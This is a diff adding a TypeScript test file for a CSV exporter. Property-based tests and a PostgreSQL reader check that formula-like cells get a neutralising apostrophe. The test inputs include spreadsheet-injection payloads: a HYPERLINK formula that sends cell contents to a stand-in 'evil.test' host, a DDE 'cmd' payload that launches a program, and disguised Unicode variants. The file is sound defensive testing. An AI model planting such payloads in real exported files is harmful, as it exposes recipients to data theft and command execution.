@@ -1,0 +1,161 @@
+import { PGlite } from '@electric-sql/pglite';
+import fc from 'fast-check';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { readCsv } from '@counterfoil/testkit/read-csv';
+import { csvAmount, csvDate, csvText, csvYesNo, EMPTY } from './csv-cells.ts';
+
+describe('text', () => {
+  test.each([
+    ['Smith & Sons', 'Smith & Sons'],
+    ['Żółć 你好 😀', 'Żółć 你好 😀'],
+    ['', ''],
+    ['null', 'null'],
+    ['Smith, Sons', '"Smith, Sons"'],
+    ['the "Old" Mill', '"the ""Old"" Mill"'],
+    ['"', '""""'],
+    ['two\nlines', '"two\nlines"'],
+    ['two\r\nlines', '"two\r\nlines"'],
+    ['a;b', '"a;b"'],
+    ['a\tb', '"a\tb"'],
+    [' before', '" before"'],
+    ['after ', '"after "'],
+    ['a=b', 'a=b'],
+    ['O-1', 'O-1'],
+    ['jo@example.test', 'jo@example.test'],
+    ["'quoted'", "'quoted'"],
+  ])('%j stands in the file as %j', (given, cell) => {
+    expect(csvText(given)).toBe(cell);
+  });
+
+  test('that is not there is an empty cell, never "null"', () => {
+    expect(csvText(null)).toBe('');
+    expect([EMPTY, csvAmount(null), csvDate(null)]).toEqual(['', '', '']);
+  });
+
+  test.each([
+    '=1+1',
+    '=HYPERLINK("https://evil.test?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    '+44 20 7946 0101',
+    '-2+3',
+    '@SUM(A1:A9)',
+    '\t=1',
+    '\tharmless?',
+    '\rharmless?',
+    '\n=1',
+    ' =1',
+    '  \u00a0+1',
+    '\u200b=1',
+    '\ufeff=1',
+    '\u0000=1',
+    ' \u200b \t x',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(A1)',
+    ' ＝1',
+    '﹦1',
+    '﹢1',
+    '﹣1',
+    '﹫SUM(A1)',
+    '−1',
+    '=',
+    '-',
+  ])('%j gets an apostrophe before it: no spreadsheet runs it', (given) => {
+    expect(readCsv(csvText(given))).toEqual([[`'${given}`]]);
+  });
+});
+
+describe('figures and dates', () => {
+  test.each([
+    [13461, '134.61'],
+    [0, '0.00'],
+    [5, '0.05'],
+    [-500, '-5.00'],
+    [999_999_999_999, '9999999999.99'],
+  ])('%d pence is the number %s, also when it is negative', (pence, cell) => {
+    expect(csvAmount(pence)).toBe(cell);
+  });
+
+  test('an amount that is no whole pence is refused, not rounded', () => {
+    expect(() => csvAmount(0.5)).toThrow(RangeError);
+  });
+
+  test('a date is day, month, year', () => {
+    expect(csvDate('2026-11-07')).toBe('07/11/2026');
+    expect([csvYesNo(true), csvYesNo(false)]).toEqual(['Yes', 'No']);
+  });
+});
+
+describe('whatever anybody types', () => {
+  const PIECES = [
+    '=',
+    '+',
+    '-',
+    '@',
+    '"',
+    "'",
+    ',',
+    ';',
+    '\t',
+    '\r',
+    '\n',
+    ' ',
+    '＝',
+    '\u200b',
+    'a',
+  ];
+  const typed = fc.oneof(
+    fc.string({ unit: 'grapheme' }),
+    fc.string({ unit: fc.constantFrom(...PIECES), maxLength: 12 }),
+  );
+  const rows = fc.array(fc.array(typed, { minLength: 3, maxLength: 3 }), {
+    minLength: 1,
+    maxLength: 5,
+  });
+  const fileOf = (texts: readonly (readonly string[])[]) =>
+    texts.map((row) => `${row.map(csvText).join(',')}\r\n`).join('');
+
+  let judge: PGlite;
+  beforeAll(async () => {
+    judge = await PGlite.create();
+    await judge.exec('create table read (place serial, a text, b text, c text)');
+  });
+  afterAll(() => judge.close());
+
+  /** The rows as PostgreSQL's own reader of CSV sees them. */
+  async function copied(file: string): Promise<string[][]> {
+    await judge.exec('truncate read restart identity');
+    await judge.query("copy read (a, b, c) from '/dev/blob' with (format csv, null '\\N')", [], {
+      blob: new Blob([file]),
+    });
+    const { rows: read } = await judge.query<{ a: string; b: string; c: string }>(
+      'select a, b, c from read order by place',
+    );
+    return read.map(({ a, b, c }) => [a, b, c]);
+  }
+
+  test('comes back as it was, but for the apostrophe before what a spreadsheet would run', async () => {
+    await fc.assert(
+      fc.asyncProperty(rows, async (texts) => {
+        const asked = texts.map((row) => row.map((text) => text.replaceAll('\0', '')));
+        const read = readCsv(fileOf(asked));
+        expect(await copied(fileOf(asked))).toEqual(read);
+        const kept = read.map((row, y) =>
+          row.map((cell, x) => (cell === asked[y]?.[x] ? cell : cell.replace(/^'/, ''))),
+        );
+        expect(kept).toEqual(asked);
+      }),
+    );
+  });
+
+  test('never leaves a cell that begins as a formula does', () => {
+    fc.assert(
+      fc.property(rows, (texts) => {
+        for (const cell of readCsv(fileOf(texts)).flat()) {
+          expect(cell.replace(/^[ \u00a0\u3000]+/, '')).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
+        }
+      }),
+    );
+  });
+});
